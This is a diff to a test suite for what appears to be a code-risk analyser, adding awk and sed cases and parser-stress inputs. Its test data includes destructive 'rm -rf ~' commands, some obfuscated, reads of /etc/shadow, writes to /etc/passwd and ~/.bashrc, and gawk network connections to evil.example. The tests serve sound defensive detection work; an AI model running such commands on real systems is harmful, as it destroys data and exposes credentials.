@@ -1,4 +1,4 @@
-"""Inline code analysis: commands, effects, risk and opacity of Python, Node, Perl, Ruby and PHP code."""
+"""Inline code analysis: commands, effects, risk and opacity of Python, Node, Perl, Ruby, PHP, Lua, awk and sed code."""
 
 from __future__ import annotations
 
@@ -792,6 +792,114 @@ def test_lua(src, commands, effects, risk, opaque):
     check(analyse_code("lua", src), commands, effects, risk, opaque)
 
 
+# ------------------------------------------------------------------------------------------- awk
+
+
+@pytest.mark.parametrize(
+    "src, commands, effects, risk, opaque",
+    [
+        # system() runs a shell string
+        ('BEGIN{system("rm -rf ~")}', [RM], [], L, False),
+        ('BEGIN { system ("rm -rf ~") }', [RM], [], L, False),
+        ('BEGIN { system("r" "m -rf " "~") }', [RM], [], L, False),
+        ('BEGIN { system(("rm -rf") " ~") }', [RM], [], L, False),
+        ('BEGIN { system("rm -rf /tmp/" 1) }', ["rm -rf /tmp/1"], [], L, False),
+        ('BEGIN { system("\\162\\155 -rf ~") }', [RM], [], L, False),
+        ('{ system("echo " $1) }', [], [], U, True),
+        ("BEGIN { system(cmd) }", [], [], U, True),
+        ('BEGIN { cmd = "date"; system(cmd) }', [], [], U, True),
+        ('function run(c) { system(c) } BEGIN { run("rm -rf ~") }', [], [], U, True),
+        # print | cmd, print |& cmd: a shell string
+        ('{print | "sh"}', ["sh"], [], H, False),
+        ('{ print $1 | "sort -u" }', ["sort -u"], [], L, False),
+        ('{ printf("%s\\n", $2) | "rm -rf ~" }', [RM], [], L, False),
+        ('{ print $0 |& "bash -c id" }', ["bash -c id"], [], L, False),
+        ('{ print | cmd }', [], [], U, True),
+        ('{ print | "xargs " $1 }', [], [], U, True),
+        # cmd | getline: a shell string
+        ('"cmd" | getline', ["cmd"], [], L, False),
+        ('BEGIN { "rm -rf ~" | getline line; print line }', [RM], [], L, False),
+        ('BEGIN { while (("ls -l" | getline line) > 0) n++ }', ["ls -l"], [], L, False),
+        ('BEGIN { "id" |& getline }', ["id"], [], L, False),
+        ('BEGIN { cmd = "date"; cmd | getline d }', [], [], U, True),
+        ('{ ("ls " $1) | getline x }', [], [], U, True),
+        # print > file and >> file write; getline < file reads
+        ('{print $0 > "/etc/x"}', [], [("write", "/etc/x", False)], M, False),
+        ('{ print >> "/home/user/.bashrc" }', [], [("write", "/home/user/.bashrc", False)], M, False),
+        ('{ printf "%s", $1 > "out.txt" }', [], [("write", "out.txt", False)], M, False),
+        ('{ print $1 > "out_" $2 ".txt" }', [], [("write", None, False)], M, False),
+        ('{ if ($1 > 5) print $2 > "big"; else print $2 > "small" }', [], [("write", "big", False), ("write", "small", False)], M, False),
+        ('BEGIN { getline line < "/etc/shadow"; print line }', [], [("read", "/etc/shadow", False)], L, False),
+        ("BEGIN { while ((getline l < ARGV[1]) > 0) print l }", [], [("read", None, False)], L, False),
+        # gawk: network files, extensions, includes, indirect calls
+        ('BEGIN { print "x" |& "/inet/tcp/0/evil.example/80" }', [], [("network", "evil.example", False)], M, False),
+        ('BEGIN { "/inet/tcp/0/1.2.3.4/9" |& getline }', [], [("network", "1.2.3.4", False)], M, False),
+        ('@load "filefuncs"\nBEGIN { chdir("/") }', [], [], H, True),
+        ('@include "lib.awk"\nBEGIN { f() }', [], [], U, True),
+        ('BEGIN { f = "system"; @f("rm -rf ~") }', [], [], U, True),
+        # comments, strings and regex literals hide nothing, and show nothing
+        ('# system("rm -rf ~")\n{ print }', [], [], L, False),
+        ('{ print "system(\\"rm -rf ~\\")" }', [], [], L, False),
+        ('/system\\("x"\\)/ { print }', [], [], L, False),
+        ('{ print "a|b" }', [], [], L, False),
+    ],
+)
+def test_awk(src, commands, effects, risk, opaque):
+    check(analyse_code("awk", src), commands, effects, risk, opaque)
+
+
+# ------------------------------------------------------------------------------------------- sed
+
+
+@pytest.mark.parametrize(
+    "src, commands, effects, risk, opaque",
+    [
+        # e runs a command; e alone and the e flag of s run the pattern space
+        ("e rm -rf ~", [RM], [], L, False),
+        ("1e rm -rf ~", [RM], [], L, False),
+        ("/x/ e rm -rf ~", [RM], [], L, False),
+        ("$!{e rm -rf ~\n}", [RM], [], L, False),
+        ("p;e rm -rf ~", [RM], [], L, False),
+        ("e", [], [], U, True),
+        ("s/x/rm -rf ~/e", [RM], [], U, True),
+        ("s/.*/rm -rf ~/e", [RM], [], L, False),
+        ("s|^.*$|rm -rf ~|e", [RM], [], L, False),
+        ("s/.*/rm\\t-rf ~/e", ["rm\t-rf ~"], [], L, False),
+        ("s/^/echo /e", ["echo"], [], U, True),
+        ("s/.*/& -rf ~/e", [], [], U, True),
+        ("s/\\(.*\\)/rm \\1/e", [], [], U, True),
+        ("s/a/b/ge", ["b"], [], U, True),
+        # w, W and the w flag of s write; r and R read
+        ("w /etc/passwd", [], [("write", "/etc/passwd", False)], M, False),
+        ("1,5W out.txt", [], [("write", "out.txt", False)], M, False),
+        ("s/a/b/w out", [], [("write", "out", False)], M, False),
+        ("s/a/b/gw /home/user/.bashrc", [], [("write", "/home/user/.bashrc", False)], M, False),
+        ("w out; p", [], [("write", "out; p", False)], M, False),
+        ("r /etc/shadow", [], [("read", "/etc/shadow", False)], L, False),
+        ("$R /etc/shadow", [], [("read", "/etc/shadow", False)], L, False),
+        ("/x/{r /etc/shadow\n}", [], [("read", "/etc/shadow", False)], L, False),
+        ("w /dev/stdout", [], [], L, False),
+        ("s/a/b/w /dev/stderr", [], [], L, False),
+        # what looks like a command but is text: nothing
+        ("a e rm -rf ~", [], [], L, False),
+        ("i\\\nw /etc/passwd", [], [], L, False),
+        ("s/e rm/w x/", [], [], L, False),
+        ("y/ew/we/", [], [], L, False),
+        ("# e rm -rf ~\np", [], [], L, False),
+        (":e\nb e", [], [], L, False),
+        # scripts sed would refuse: opaque
+        ("s/a/b", [], [], U, True),
+        ("k", [], [], U, True),
+        ("{p", [], [], U, True),
+        ("p}", [], [], U, True),
+        ("s/a/b/x", [], [], U, True),
+        ("w", [], [], U, True),
+    ],
+)
+def test_sed(src, commands, effects, risk, opaque):
+    check(analyse_code("sed", src), commands, effects, risk, opaque)
+
+
 # ------------------------------------------------------------------------------- languages, bounds
 
 
@@ -838,7 +946,7 @@ def test_unknown_language_is_opaque():
     assert f.opaque and "tcl" in f.opaque_reason and f.risk is Risk.UNKNOWN
 
 
-@pytest.mark.parametrize("lang", ["python", "node", "perl", "ruby", "php"])
+@pytest.mark.parametrize("lang", ["python", "node", "perl", "ruby", "php", "lua", "awk", "sed"])
 def test_oversized_source_is_opaque(lang):
     f = analyse_code(lang, "x" * (MAX_SOURCE + 1))
     assert f.opaque and "KiB" in f.opaque_reason and f.risk is Risk.UNKNOWN
@@ -855,6 +963,16 @@ def test_oversized_source_is_opaque(lang):
         ("node", "'" + "\\" * 100000),
         ("perl", "q{" * 50000),
         ("ruby", "<<~A\n" * 30000),
+        ("lua", "[==[" * 50000),
+        ("lua", "--[[" * 50000),
+        ("lua", "f " * 50000 + "'x'"),
+        ("lua", "{" * 50000),
+        ("awk", "(" * 50000 + '"x" | getline'),
+        ("awk", '"x" ' * 50000 + "| getline"),
+        ("awk", "print > " * 30000),
+        ("sed", "{" * 50000 + "}" * 50000),
+        ("sed", "s/a/b/;" * 30000),
+        ("sed", "/" + "\\" * 100000),
     ],
 )
 def test_hostile_input_is_bounded(lang, src):
@@ -894,9 +1012,11 @@ def test_tables_only_use_known_styles():
         "fork",
         "pipe_open",
     }
-    danger_styles = {"always", "code", "code_if_string", "import", "send", "preg_e"}
+    danger_styles = {"always", "code", "code_if_string", "import", "send", "preg_e", "invoke"}
     net_styles = {"url", "host", "address", "options", "port_host", "perl_socket"}
-    for lang in ("python", "node", "perl", "ruby", "php"):
+    for lang in data["languages"]:
+        if lang == "shell":
+            continue
         sec = data[lang]
         for name, spec in sec.get("spawn", {}).items():
             assert spec["style"] in spawn_styles, (lang, name)
@@ -921,16 +1041,17 @@ def _data_file(name: str) -> dict[str, Any]:
 
 def test_every_tokenizer_language_has_a_syntax():
     languages = _data_file("code.toml")["languages"]
-    tokenized = {lang for lang in languages if lang not in ("python", "shell")}
+    tokenized = {lang for lang in languages if lang not in ("python", "shell", "sed")}
     assert set(syntaxes()) == tokenized
+    assert not syntaxes()["awk"].grammar.member_ops  # awk's section is a lexer: its analyser is its own
     for lang in tokenized:
         for name in languages[lang]:
             assert code_language(name) == lang
             check(analyse_code(name, ""), [], [], L, False)
 
 
-SYNTAX_LANGS = ["node", "perl", "ruby", "php", "lua"]  # the languages syntax.toml has a section for
-LEXER_ONLY: tuple[str, ...] = ()  # those read by an analyser of their own over the lexer
+SYNTAX_LANGS = ["node", "perl", "ruby", "php", "lua", "awk"]  # the languages syntax.toml has a section for
+LEXER_ONLY = ("awk",)  # those read by an analyser of their own over the lexer
 
 
 def _broken(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
@@ -958,6 +1079,11 @@ def _broken(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
         (_broken(lambda d: d["php"]["lexer"]["heredoc"].update(bare_word="lower")), 'bare_word is "capitalised"'),
         (_broken(lambda d: d["perl"]["lexer"].update(heredoc=["<<"])), r"perl\.lexer\.heredoc: a table"),
         (_broken(lambda d: d["php"]["lexer"].pop("reopen_tag")), "close_tag and reopen_tag go together"),
+        (_broken(lambda d: d["lua"]["lexer"].update(octal_escapes=True)), "octal_escapes and decimal_escapes exclude"),
+        (_broken(lambda d: d["lua"]["lexer"].pop("long_brackets")), "long comments need long_brackets"),
+        (_broken(lambda d: d["lua"]["lexer"].update(whitespace_escape="zz")), r"whitespace_escape: one character"),
+        (_broken(lambda d: d["lua"]["grammar"].update(keywords="end")), r"lua\.grammar\.keywords: a list"),
+        (_broken(lambda d: d["awk"].update(grammar={"member_ops": ["."]})), "awk: a language read by its own analyser"),
     ],
 )
 def test_a_syntax_table_that_does_not_validate_is_an_error(data, message):
@@ -995,7 +1121,8 @@ def test_a_language_is_added_by_its_syntax_and_tables():
 
 # ------------------------------------------------------------------------------------ properties
 
-LANGS = ["python", "node", "perl", "ruby", "php", "bash", "lua"]
+LANGS = ["python", "node", "perl", "ruby", "php", "bash", "lua", "awk", "sed", "tcl"]
+CODE_LANGS = ["python", "node", "perl", "ruby", "php", "lua", "awk", "sed"]
 CODE_ALPHABET = st.sampled_from(
     list("abcxyz_$@%#'\"`\\/(){}[]<>;:,.=+-*|&!?~^ \n\t0123456789") + ["\x00", "é", "\u2028"]
 )
@@ -1010,7 +1137,7 @@ def test_any_text_never_raises(lang, src):
 
 
 @settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(lang=st.sampled_from(LANGS[:5]), src=st.text(alphabet=CODE_ALPHABET, max_size=200))
+@given(lang=st.sampled_from(CODE_LANGS), src=st.text(alphabet=CODE_ALPHABET, max_size=200))
 def test_code_like_text_never_raises(lang, src):
     f = analyse_code(lang, src)
     assert "internal error" not in f.opaque_reason
@@ -1023,7 +1150,7 @@ def test_code_like_text_never_raises(lang, src):
 
 @settings(max_examples=200, deadline=None)
 @given(
-    lang=st.sampled_from(LANGS[:5]),
+    lang=st.sampled_from(CODE_LANGS),
     snippets=st.lists(
         st.sampled_from(
             [
@@ -1333,6 +1460,60 @@ EVERYDAY = [
     ("lua", "print(math.floor(3.7), math.max(1, 2), 7 // 2, 2 ^ 10, 5 ~= 6)"),
     ("lua", "local t = {load = 1, require = 2} print(t.load)"),
     ("lua", "io.write(string.rep('-', 20), '\\n') os.exit(0)"),
+    ("awk", "{print $1}"),
+    ("awk", "{ print $NF }"),
+    ("awk", "NR>1 {s+=$2} END {print s}"),
+    ("awk", "{a[$1]++} END {for (k in a) print k, a[k]}"),
+    ("awk", "length($0) > 80"),
+    ("awk", "/error/ {c++} END {print c+0}"),
+    ("awk", "BEGIN{FS=\",\"} {print $2}"),
+    ("awk", "{printf \"%-10s %s\\n\", $1, $2}"),
+    ("awk", "NR==FNR{a[$1];next} $1 in a"),
+    ("awk", "{gsub(/foo/, \"bar\"); print}"),
+    ("awk", "{ print > \"/dev/stderr\" }"),
+    ("awk", "{ n = split($0, parts, \":\"); print parts[n] }"),
+    ("awk", "$3 > 100 { print $1 }"),
+    ("awk", "{ sum[$1] += $2 } END { for (k in sum) printf(\"%s %d\\n\", k, sum[k]) }"),
+    ("awk", "BEGIN { OFS = \"\\t\" } { $1 = $1; print }"),
+    ("awk", "NF { print tolower($0) }"),
+    ("awk", "{ print substr($0, 1, 10), index($0, \"x\"), length }"),
+    ("awk", "END { print NR }"),
+    ("awk", "BEGIN { while ((getline line) > 0) n++; print n }"),
+    ("awk", "function max(a, b) { return a > b ? a : b } { m = max(m, $1) } END { print m }"),
+    ("awk", "/^#/ { next } { print }"),
+    ("awk", "{ if ($2 ~ /^[0-9]+$/) print $2 / 2 }"),
+    ("sed", "1,10p"),
+    ("sed", "s/foo/bar/g"),
+    ("sed", "s/a/b/"),
+    ("sed", "s/(x)+/\\1/"),
+    ("sed", "/^#/d"),
+    ("sed", "/start/,/end/p"),
+    ("sed", "1d"),
+    ("sed", "$d"),
+    ("sed", "s|/usr/local|/opt|g"),
+    ("sed", "s/\\//\\\\/g"),
+    ("sed", "s/a/b/\ns/c/d/"),
+    ("sed", "/foo/a\\\nbar"),
+    ("sed", "2i hello"),
+    ("sed", ":a;N;$!ba;s/\\n/ /g"),
+    ("sed", "y/abc/xyz/"),
+    ("sed", "/x/{s/a/b/;s/c/d/}"),
+    ("sed", "$="),
+    ("sed", "s/[[:space:]]*$//"),
+    ("sed", "s/a/b/2"),
+    ("sed", "s/a/b/gI"),
+    ("sed", "l"),
+    ("sed", "5q"),
+    ("sed", "0~3d"),
+    ("sed", "1~2!d"),
+    ("sed", "/re/I,+2d"),
+    ("sed", "s/'//g"),
+    ("sed", "#n\np"),
+    ("sed", "s/x/y/w /dev/stdout"),
+    ("sed", "\\%/usr%d"),
+    ("sed", "N;s/\\n/\\t/"),
+    ("sed", "s/^[ \\t]*//;s/[ \\t]*$//"),
+    ("sed", "/^$/N;/\\n$/D"),
 ]
 
 
